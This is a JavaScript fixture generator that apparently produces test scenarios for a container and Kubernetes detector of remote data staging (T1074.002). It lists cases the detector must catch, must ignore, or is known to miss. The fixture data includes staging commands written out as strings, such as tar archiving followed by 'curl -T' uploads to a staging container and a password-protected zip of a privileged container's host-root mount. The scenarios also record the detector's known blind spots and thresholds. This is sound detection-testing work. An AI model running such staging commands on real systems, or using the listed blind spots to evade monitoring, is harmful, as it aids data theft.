// Scenarios of data that is gathered in one place, for scripts/make-scenarios.mjs.

const STAGING = 'T1074.002-remote-data-staging';
const [MINUTE, HOUR, DAY, KB, MB] = [60, 3600, 86_400, 1000, 1_000_000];

/** `tools` are those of make-scenarios.mjs. */
export function makeStagingScenarios(tools) {
  for (const make of [
    gatheringWithHistory,
    privilegedStage,
    copiesOutOfPods,
    threeWriters,
    enoughLeaves,
    logShipperFirstDay,
    databaseForEveryone,
    messageBroker,
    nightlyBackup,
    newApplication,
    floodingLogger,
    imageBuild,
    agentsWithHostAccess,
    twoSources,
    twoPods,
    twoWriters,
    unpackedCopies,
    partsOnTheFirstDay,
    newSources,
    littleLeaves,
    smallArchives,
    trickledArchives,
    packedLongBefore,
    greetedBefore,
    greetedAndLeft,
    underThreeTimesTheUsual,
    unpackedWithHistory,
    copiesOverTheFullHour,
    copiesInTwoHours,
    copiesThatAreRoutine,
    filesOpenedAgain,
    slowlyWritten,
  ])
    make(tools);
}

/** Containers that have been there for a month, with addresses from 10.20.2.10 on. */
function fleet({ containerUid, DAY_0 }, draw, names, values = {}) {
  return names.map((name, index) => ({
    uid: containerUid(draw),
    name,
    image: `registry.example/${name}:7`,
    labels: {},
    ip: `10.20.2.${10 + index}`,
    startedAt: DAY_0 - 30 * DAY,
    command: [`/bin/${name}`],
    ...values,
  }));
}

function writeInspect({ write, inspectOf }, scenario, containers) {
  const all = containers.map((each) => {
    const told = inspectOf(each);
    const mounts = (each.mounts ?? []).map(([Type, Source, Destination]) => ({
      Type,
      Source,
      Destination,
      RW: true,
    }));
    return {
      ...told,
      Mounts: mounts,
      HostConfig: { ...told.HostConfig, Privileged: each.privileged === true, PidMode: each.pidMode ?? '' },
    };
  });
  write(STAGING, scenario, 'inspect.json', `${JSON.stringify(all, null, 1)}\n`);
}

const volume = (name, destination) => ['volume', `/var/lib/docker/volumes/${name}/_data`, destination];

/** `docker exec` as the engine tells of it: [container, seconds, command]. */
function writeExecs({ write, engineEvent, engineLines }, scenario, execs) {
  const events = [...execs].sort((a, b) => a[1] - b[1]);
  write(
    STAGING,
    scenario,
    'engine-events.ndjson',
    engineLines(
      events.map(([container, at, command]) => engineEvent(container, `exec_create: ${command}`, at)),
    ),
  );
}

/** What the host sensor tells of files: [container, seconds, path, bytes, program]. */
function writeFiles({ write, iso }, scenario, files, name = 'file.ndjson') {
  const lines = files.map(([container, at, path, bytes, program], index) =>
    JSON.stringify({
      sensor: 'stowaway',
      record: 'write',
      time: iso(at),
      monotonic_ns: String(1_000_000_000 + index),
      pid: 400 + index,
      name: program,
      container: container.uid,
      path,
      path_complete: true,
      bytes: Math.round(bytes),
    }),
  );
  write(STAGING, scenario, name, lines.map((line) => `${line}\n`).join(''));
}

/** Small talk of an hour or a day, so that a workload has a life before. */
function smallTalk({ conn, range }, draw, { from, to, since, hours, port = 443 }) {
  return range(hours * 2).map((index) =>
    conn(draw, {
      at: since + index * 30 * MINUTE + draw.random() * 60,
      from: from.ip,
      to: to.ip ?? to,
      port,
      sent: draw.around(6 * KB, 0.3),
      received: draw.around(9 * KB, 0.3),
    }),
  );
}

const archive = ({ conn }, draw, { from, to, at, bytes, port = 8443, service = 'ssl', seconds = 4 }) =>
  conn(draw, { at, from: from.ip, to: to.ip, port, service, sent: bytes, received: 3 * KB, seconds });

function inputs({ writeLines }, scenario, rows, name = 'conn.log') {
  writeLines(STAGING, scenario, name, rows);
}

// ---------------------------------------------------------------- must fire

/** Two days of small talk, then four workloads pack and send over TLS to a fifth. */
function gatheringWithHistory(tools) {
  const scenario = 'fires-on-archives-of-four-workloads-over-tls';
  const draw = tools.drawing(scenario);
  const [cache, ...sources] = fleet(tools, draw, ['cache', 'shop', 'crm', 'hr', 'wiki']);
  writeInspect(tools, scenario, [cache, ...sources]);
  const talk = [cache, ...sources].flatMap((from) =>
    smallTalk(tools, draw, { from, to: '10.20.9.9', since: tools.DAY_0, hours: 48 }),
  );
  inputs(tools, scenario, talk, 'baseline/conn.log');
  const at = tools.DAY_0 + 50 * HOUR;
  inputs(
    tools,
    scenario,
    sources.map((from, index) =>
      archive(tools, draw, { from, to: cache, at: at + index * 70, bytes: draw.around(18 * MB, 0.2) }),
    ),
  );
  writeExecs(
    tools,
    scenario,
    sources.map((from, index) => [
      from,
      at + index * 70 - 5,
      'sh -c tar czf /tmp/.d.tgz /srv/data; curl -T /tmp/.d.tgz https://cache:8443/',
    ]),
  );
}

/** A privileged container with the root of the host fetches from two others: rights, amount and packing together. */
function privilegedStage(tools) {
  const scenario = 'fires-on-a-privileged-container-that-gathers';
  const draw = tools.drawing(scenario);
  const sources = fleet(tools, draw, ['shop', 'crm', 'hr']);
  const [stage] = fleet(tools, draw, ['debug'], {
    ip: '10.20.2.40',
    startedAt: tools.DAY_0 + 9 * HOUR,
    privileged: true,
    pidMode: 'host',
    mounts: [['bind', '/', '/host']],
  });
  writeInspect(tools, scenario, [...sources, stage]);
  const at = tools.DAY_0 + 9 * HOUR + 10 * MINUTE;
  inputs(
    tools,
    scenario,
    sources.map((from, index) =>
      tools.conn(draw, {
        at: at + index * 20,
        from: stage.ip,
        to: from.ip,
        port: 8080,
        service: 'http',
        sent: 700,
        received: 25 * MB,
        seconds: 3,
      }),
    ),
  );
  writeExecs(tools, scenario, [[stage, at + 90, 'sh -c zip -r -P x /host/var/tmp/.all.zip /work']]);
}

/** One line of the audit log for `kubectl cp` out of a pod: an exec of tar that writes to its output. */
function podCopy({ iso }, { at, pod, user, index }) {
  return JSON.stringify({
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'Metadata',
    auditID: `00000000-0000-4000-8000-0000000000${10 + index}`,
    stage: 'ResponseComplete',
    requestURI: `/api/v1/namespaces/shop/pods/${pod}/exec?command=tar&command=cf&command=-&command=%2Fvar%2Fdata&container=app&stderr=true&stdout=true`,
    verb: 'create',
    user: { username: user, groups: ['system:authenticated'] },
    sourceIPs: ['203.0.113.7'],
    userAgent: 'kubectl/v1.34.0 (linux/amd64)',
    objectRef: { resource: 'pods', namespace: 'shop', name: pod, apiVersion: 'v1', subresource: 'exec' },
    responseStatus: { code: 101 },
    requestReceivedTimestamp: iso(at),
    stageTimestamp: iso(at + 2),
  });
}

/** `times` are seconds of day 0, a list for each pod. */
function writePodCopies(tools, scenario, pods, times = pods.map((_, index) => [14 * HOUR + index * 50])) {
  const copies = pods.flatMap((pod, index) => times[index].map((at) => ({ pod, at: tools.DAY_0 + at })));
  const lines = copies
    .sort((a, b) => a.at - b.at)
    .map((copy, index) => podCopy(tools, { ...copy, user: 'mallory@example.com', index }));
  tools.write(STAGING, scenario, 'audit.log', lines.map((line) => `${line}\n`).join(''));
}

const THREE_PODS = ['orders-0', 'customers-0', 'billing-0'];
const copiesOutOfPods = (tools) => writePodCopies(tools, 'fires-on-kubectl-cp-out-of-three-pods', THREE_PODS);

/** Workloads pack 30 MB each into a volume that all of them and a reader mount. */
function packIntoVolume(tools, scenario, names, writesOf = (bytes) => [[0, bytes]]) {
  const draw = tools.drawing(scenario);
  const containers = fleet(tools, draw, [...names, 'reader'], { mounts: [volume('exchange', '/exchange')] });
  const writers = containers.slice(0, -1);
  writeInspect(tools, scenario, containers);
  const at = tools.DAY_0 + 9 * HOUR;
  const target = ({ name }) => `/exchange/${name}.tgz`;
  writeFiles(
    tools,
    scenario,
    writers.flatMap((each, index) =>
      writesOf(30 * MB).map(([after, bytes]) => [each, at + index * 60 + after, target(each), bytes, 'tar']),
    ),
  );
  writeExecs(
    tools,
    scenario,
    writers.map((each, index) => [each, at + index * 60 - 3, `tar czf ${target(each)} /srv`]),
  );
}

const threeWriters = (tools) =>
  packIntoVolume(tools, 'fires-on-three-writers-into-one-volume', ['shop', 'crm', 'hr']);

/** Three workloads give 400 kB each to a stage that packs it into a folder of its own; then `leaves` bytes go out. */
function packAtTheStage(tools, scenario, leaves) {
  const draw = tools.drawing(scenario);
  const [cache, ...sources] = fleet(tools, draw, ['cache', 'shop', 'crm', 'hr']);
  writeInspect(tools, scenario, [cache, ...sources]);
  const at = tools.DAY_0 + 9 * HOUR;
  inputs(tools, scenario, [
    ...sources.map((from, index) =>
      archive(tools, draw, { from, to: cache, at: at + index * 70, bytes: 400 * KB }),
    ),
    tools.conn(draw, { at: at + 300, from: cache.ip, to: '203.0.113.60', sent: leaves, received: 4 * KB }),
  ]);
  writeExecs(tools, scenario, [[cache, at + 200, 'zip -r /work/all.zip /work/in']]);
}

const enoughLeaves = (tools) =>
  packAtTheStage(tools, 'fires-on-a-ninth-of-what-three-gave-leaving', 133 * KB);

// ---------------------------------------------------------------- must stay quiet

/** The first hour of a collector: six services flush every five seconds, over a connection each. Logs are rotated and packed besides. */
function logShipperFirstDay(tools) {
  const scenario = 'quiet-log-shipper-on-its-first-day';
  const draw = tools.drawing(scenario);
  const [collector, ...services] = fleet(tools, draw, ['fluent', 'shop', 'crm', 'hr', 'wiki', 'mail', 'api']);
  writeInspect(tools, scenario, [collector, ...services]);
  const at = tools.DAY_0 + 8 * HOUR;
  inputs(
    tools,
    scenario,
    services.flatMap((from) =>
      tools.range(60).map((index) =>
        archive(tools, draw, {
          from,
          to: collector,
          at: at + index * MINUTE + draw.random() * 5,
          bytes: draw.around(140 * KB, 0.4),
          port: 24_224,
          seconds: 0.2,
        }),
      ),
    ),
  );
  writeExecs(
    tools,
    scenario,
    services.map((from, index) => [from, at + index * 400, 'gzip /var/log/app.log.1']),
  );
}

/** A database: pools of connections that are open all day, rows in, rows out. */
function databaseForEveryone(tools) {
  const scenario = 'quiet-database-everyone-writes-to';
  const draw = tools.drawing(scenario);
  const [db, ...services] = fleet(tools, draw, ['postgres', 'shop', 'crm', 'hr', 'wiki', 'mail']);
  writeInspect(tools, scenario, [db, ...services]);
  inputs(
    tools,
    scenario,
    services.flatMap((from) =>
      tools.range(5).map((index) =>
        tools.conn(draw, {
          at: tools.DAY_0 + index * 400,
          from: from.ip,
          to: db.ip,
          port: 5432,
          service: 'postgresql',
          sent: draw.around(30 * MB, 0.3),
          received: draw.around(12 * MB, 0.3),
          seconds: draw.around(5 * HOUR, 0.1),
        }),
      ),
    ),
  );
}

/** A broker: four producers and three consumers, a connection each that stays; what comes in goes out. */
function messageBroker(tools) {
  const scenario = 'quiet-message-broker';
  const draw = tools.drawing(scenario);
  const [broker, ...clients] = fleet(tools, draw, [
    'kafka',
    'shop',
    'crm',
    'hr',
    'wiki',
    'mail',
    'billing',
    'search',
  ]);
  writeInspect(tools, scenario, [broker, ...clients]);
  inputs(
    tools,
    scenario,
    clients.flatMap((from, index) =>
      tools.range(2).map((turn) =>
        tools.conn(draw, {
          at: tools.DAY_0 + turn * 4 * HOUR,
          from: from.ip,
          to: broker.ip,
          port: 9092,
          service: '',
          sent: index < 4 ? draw.around(60 * MB, 0.2) : 2 * MB,
          received: index < 4 ? 1 * MB : 80 * MB,
          seconds: 3.9 * HOUR,
        }),
      ),
    ),
  );
}

/** Every night five workloads pack and send to the backup server; it is the fourth night that is judged. */
function nightlyBackup(tools) {
  const scenario = 'quiet-nightly-backup-in-its-usual-volume';
  const draw = tools.drawing(scenario);
  const [backup, ...services] = fleet(tools, draw, ['backup', 'shop', 'crm', 'hr', 'wiki', 'mail']);
  writeInspect(tools, scenario, [backup, ...services]);
  const night = (day) =>
    services.map((from, index) =>
      archive(tools, draw, {
        from,
        to: backup,
        at: tools.DAY_0 + day * DAY + 2 * HOUR + index * 300 + draw.random() * 60,
        bytes: draw.around(200 * MB, 0.1),
        port: 8022,
        service: 'ssh',
        seconds: 60,
      }),
    );
  inputs(tools, scenario, [0, 1, 2].flatMap(night), 'baseline/conn.log');
  inputs(tools, scenario, night(3));
  writeExecs(
    tools,
    scenario,
    services.map((from, index) => [
      from,
      tools.DAY_0 + 3 * DAY + 2 * HOUR + index * 300 - 4,
      'tar czf /backup/out.tgz /srv',
    ]),
  );
}

/** Two days of others' small talk, then an application of five containers starts and fills its own database. */
function newApplication(tools) {
  const scenario = 'quiet-new-application-on-its-first-day';
  const draw = tools.drawing(scenario);
  const [old] = fleet(tools, draw, ['wiki']);
  const startedAt = tools.DAY_0 + 50 * HOUR;
  const parts = fleet(tools, draw, ['db', 'import', 'api', 'media', 'search'], { startedAt }).map(
    (each, index) => ({
      ...each,
      name: `newshop-${each.name}-1`,
      ip: `10.20.3.${10 + index}`,
      labels: { 'com.docker.compose.project': 'newshop', 'com.docker.compose.service': each.name },
    }),
  );
  writeInspect(tools, scenario, [old, ...parts]);
  inputs(
    tools,
    scenario,
    smallTalk(tools, draw, { from: old, to: '10.20.9.9', since: tools.DAY_0, hours: 48 }),
    'baseline/conn.log',
  );
  const [db, ...writers] = parts;
  inputs(
    tools,
    scenario,
    writers.map((from, index) =>
      archive(tools, draw, {
        from,
        to: db,
        at: startedAt + 120 + index * 30,
        bytes: 60 * MB,
        port: 5432,
        service: 'postgresql',
        seconds: 20,
      }),
    ),
  );
  writeExecs(
    tools,
    scenario,
    writers.map((from, index) => [from, startedAt + 110 + index * 30, 'sh -c tar cz /seed | psql -h db']),
  );
}

/** Three services log to a collector for two days; then two of them are set to debug and send a hundred times as much. */
function floodingLogger(tools) {
  const scenario = 'quiet-misconfigured-logger-floods-its-collector';
  const draw = tools.drawing(scenario);
  const [collector, ...services] = fleet(tools, draw, ['fluent', 'shop', 'crm', 'hr']);
  writeInspect(tools, scenario, [collector, ...services]);
  const day = (index, bytesOf) =>
    services.flatMap((from, service) =>
      tools.range(48).map((part) =>
        archive(tools, draw, {
          from,
          to: collector,
          at: tools.DAY_0 + index * DAY + part * 30 * MINUTE,
          bytes: draw.around(bytesOf(service), 0.2),
          port: 24_224,
          seconds: 5,
        }),
      ),
    );
  inputs(
    tools,
    scenario,
    [0, 1].flatMap((index) => day(index, () => 30 * KB)),
    'baseline/conn.log',
  );
  inputs(
    tools,
    scenario,
    day(2, (service) => (service < 2 ? 3 * MB : 30 * KB)),
  );
  writeExecs(tools, scenario, [[services[0], tools.DAY_0 + 2 * DAY + 9 * HOUR, 'gzip /var/log/app.log.1']]);
}

/** A build unpacks two archives into /tmp and packs its result into its own workspace. */
function imageBuild(tools) {
  const scenario = 'quiet-image-build-that-unpacks';
  const draw = tools.drawing(scenario);
  const [builder] = fleet(tools, draw, ['builder']);
  writeInspect(tools, scenario, [builder]);
  const at = tools.DAY_0 + 11 * HOUR;
  writeFiles(
    tools,
    scenario,
    tools
      .range(40)
      .map((index) => [builder, at + index * 2, `/tmp/layers/${index}/bin`, draw.around(6 * MB, 0.5), 'tar']),
  );
  writeExecs(tools, scenario, [
    [builder, at, 'tar xzf /work/base.tgz -C /tmp/layers'],
    [builder, at + 40, 'tar xzf /work/deps.tgz -C /tmp/layers'],
    [builder, at + 90, 'tar cf /work/out/image.tar /tmp/layers'],
  ]);
}

/** A metrics agent and a log agent that see the host on purpose, and scrape. */
function agentsWithHostAccess(tools) {
  const scenario = 'quiet-agents-that-see-the-host';
  const draw = tools.drawing(scenario);
  const services = fleet(tools, draw, ['shop', 'crm', 'hr']);
  const [agent] = fleet(tools, draw, ['node-exporter'], {
    ip: '10.20.2.30',
    privileged: true,
    pidMode: 'host',
    mounts: [
      ['bind', '/', '/host'],
      ['bind', '/var/run/docker.sock', '/var/run/docker.sock'],
    ],
  });
  writeInspect(tools, scenario, [...services, agent]);
  inputs(
    tools,
    scenario,
    services.flatMap((to) =>
      tools.range(120).map((index) =>
        tools.conn(draw, {
          at: tools.DAY_0 + 8 * HOUR + index * 15,
          from: agent.ip,
          to: to.ip,
          port: 9100,
          service: 'http',
          sent: 310,
          received: draw.around(41 * KB, 0.03),
        }),
      ),
    ),
  );
}

// ---------------------------------------------------------------- known to be missed

/** As fires-on-archives-of-four-workloads-over-tls, by two. */
const twoSources = (tools) =>
  gather(tools, 'misses-archives-of-two-workloads', {
    names: ['shop', 'crm'],
    command: 'sh -c tar czf /tmp/.d.tgz /srv/data; curl -T /tmp/.d.tgz https://cache:8443/',
  });

const twoPods = (tools) =>
  writePodCopies(tools, 'misses-kubectl-cp-out-of-two-pods', ['orders-0', 'customers-0']);

const twoWriters = (tools) => packIntoVolume(tools, 'misses-two-writers-into-one-volume', ['shop', 'crm']);

/** Four workloads send what they have as it is; no command packs anything and no file sensor looks. */
const unpackedCopies = (tools) =>
  gather(tools, 'misses-data-gathered-as-it-is', {
    names: ['shop', 'crm', 'hr', 'wiki'],
    command: 'curl -T /srv/data/all.csv https://cache:8443/',
  });

/** Four workloads pack and send in a hundred parts each, an hour after the logs begin. */
function partsOnTheFirstDay(tools) {
  const scenario = 'misses-archives-in-many-parts-on-the-first-day';
  const draw = tools.drawing(scenario);
  const [cache, ...sources] = fleet(tools, draw, ['cache', 'shop', 'crm', 'hr', 'wiki']);
  writeInspect(tools, scenario, [cache, ...sources]);
  const at = tools.DAY_0 + 9 * HOUR;
  inputs(
    tools,
    scenario,
    sources.flatMap((from) =>
      tools
        .range(100)
        .map((index) =>
          archive(tools, draw, { from, to: cache, at: at + index * 4, bytes: 180 * KB, seconds: 0.3 }),
        ),
    ),
  );
  writeExecs(
    tools,
    scenario,
    sources.map((from, index) => [
      from,
      at - 20 + index,
      'sh -c tar cz /srv/data | split -b 180000 - /tmp/p',
    ]),
  );
}

/** The sources are as new as the stage, in an environment with a history. */
function newSources(tools) {
  const scenario = 'misses-gathering-from-workloads-that-are-new-themselves';
  const draw = tools.drawing(scenario);
  const [old] = fleet(tools, draw, ['mail']);
  const startedAt = tools.DAY_0 + 50 * HOUR;
  const [cache, ...sources] = fleet(tools, draw, ['cache', 'shop', 'crm', 'hr'], { startedAt }).map(
    (each, index) => ({ ...each, ip: `10.20.3.${10 + index}` }),
  );
  writeInspect(tools, scenario, [old, cache, ...sources]);
  inputs(
    tools,
    scenario,
    smallTalk(tools, draw, { from: old, to: '10.20.9.9', since: tools.DAY_0, hours: 48 }),
    'baseline/conn.log',
  );
  inputs(
    tools,
    scenario,
    sources.map((from, index) =>
      archive(tools, draw, { from, to: cache, at: startedAt + 600 + index * 70, bytes: 18 * MB }),
    ),
  );
  writeExecs(
    tools,
    scenario,
    sources.map((from, index) => [from, startedAt + 595 + index * 70, 'tar czf /srv/out/d.tgz /srv/data']),
  );
}

const littleLeaves = (tools) =>
  packAtTheStage(tools, 'misses-an-eleventh-of-what-three-gave-leaving', 109 * KB);

/** Workloads pack and send to another, as an attack does; each value that is given is just under a threshold. */
function gather(
  tools,
  scenario,
  {
    names = ['shop', 'crm', 'hr'],
    bytes = 18 * MB,
    seconds = 4,
    packedBefore = 5,
    command = 'tar czf /tmp/.d.tgz /srv/data',
  },
) {
  const draw = tools.drawing(scenario);
  const [cache, ...sources] = fleet(tools, draw, ['cache', ...names]);
  writeInspect(tools, scenario, [cache, ...sources]);
  const at = tools.DAY_0 + 9 * HOUR;
  inputs(
    tools,
    scenario,
    sources.map((from, index) =>
      archive(tools, draw, { from, to: cache, at: at + index * 70, bytes, seconds }),
    ),
  );
  writeExecs(
    tools,
    scenario,
    sources.map((from, index) => [from, at + index * 70 - packedBefore, command]),
  );
}

const smallArchives = (tools) => gather(tools, 'misses-archives-under-256-kib', { bytes: 250 * KB });
const trickledArchives = (tools) =>
  gather(tools, 'misses-archives-that-take-over-half-an-hour', { seconds: 31 * MINUTE });
const packedLongBefore = (tools) =>
  gather(tools, 'misses-archives-that-lay-for-eleven-minutes', { packedBefore: 11 * MINUTE });

// ---------------------------------------------------------------- novelty, and what stays of it

/** Three workloads that sent `before` bytes each the day before pack and send 18 MB each, and `leaves` bytes go out; `after` a day later. */
function gatherWithHistory(
  tools,
  scenario,
  { before, leaves = [], after = [], packs = 'tar czf /tmp/.d.tgz /srv/data' },
) {
  const draw = tools.drawing(scenario);
  const [cache, ...sources] = fleet(tools, draw, ['cache', 'shop', 'crm', 'hr']);
  writeInspect(tools, scenario, [cache, ...sources]);
  const talk = [cache, ...sources].flatMap((from) =>
    smallTalk(tools, draw, { from, to: '10.20.9.9', since: tools.DAY_0, hours: 2 }),
  );
  inputs(tools, scenario, talk, 'baseline/conn.log');
  const at = tools.DAY_0 + 50 * HOUR;
  const send = (day, bytes) =>
    sources.map((from, index) =>
      archive(tools, draw, { from, to: cache, at: at + day * DAY + index * 70, bytes }),
    );
  inputs(tools, scenario, [
    ...before.flatMap((bytes) => send(-1, bytes)),
    ...send(0, 18 * MB),
    ...leaves.map((bytes) =>
      tools.conn(draw, { at: at + 300, from: cache.ip, to: '203.0.113.60', sent: bytes, received: 4 * KB }),
    ),
    ...after.flatMap((bytes) => send(1, bytes)),
  ]);
  writeExecs(
    tools,
    scenario,
    sources.map((from, index) => [from, at + index * 70 - 5, packs]),
  );
}

const GREETED = { before: [6 * KB], after: [6 * KB] };
const greetedBefore = (tools) =>
  gatherWithHistory(tools, 'fires-on-archives-of-workloads-that-greeted-before', GREETED);
const greetedAndLeft = (tools) =>
  gatherWithHistory(tools, 'fires-on-what-workloads-that-greeted-before-gave-leaving', {
    ...GREETED,
    leaves: [50 * MB],
  });
const underThreeTimesTheUsual = (tools) =>
  gatherWithHistory(tools, 'misses-archives-under-three-times-the-usual', { before: [7 * MB] });
const unpackedWithHistory = (tools) =>
  gatherWithHistory(tools, 'misses-data-gathered-as-it-is-with-a-history', {
    before: [],
    packs: 'curl -T /srv/data/all.csv https://cache:8443/',
  });

const copiesOverTheFullHour = (tools) =>
  writePodCopies(tools, 'fires-on-kubectl-cp-over-the-full-hour', THREE_PODS, [
    [15 * HOUR - 120],
    [15 * HOUR - 60],
    [15 * HOUR + 60],
  ]);
const copiesInTwoHours = (tools) =>
  writePodCopies(tools, 'misses-kubectl-cp-out-of-three-pods-in-two-hours', THREE_PODS, [
    [14 * HOUR],
    [15 * HOUR],
    [16 * HOUR],
  ]);
/** Hours apart on the first day, one after another on the next two. */
const copiesThatAreRoutine = (tools) =>
  writePodCopies(
    tools,
    'quiet-copies-out-of-pods-that-are-routine',
    THREE_PODS,
    THREE_PODS.map((_, index) => [
      (9 + 2 * index) * HOUR,
      DAY + 2 * HOUR + index * 60,
      2 * DAY + 2 * HOUR + index * 60,
    ]),
  );

const filesOpenedAgain = (tools) =>
  packIntoVolume(
    tools,
    'fires-on-three-writers-that-open-their-files-again',
    ['shop', 'crm', 'hr'],
    (bytes) => [
      [0, bytes],
      [660, 1],
    ],
  );
/** As much in every two of forty minutes. */
const slowlyWritten = (tools) =>
  packIntoVolume(tools, 'misses-three-writers-that-write-for-forty-minutes', ['shop', 'crm', 'hr'], (bytes) =>
    tools.range(20).map((part) => [part * 2 * MINUTE, bytes / 20]),
  );
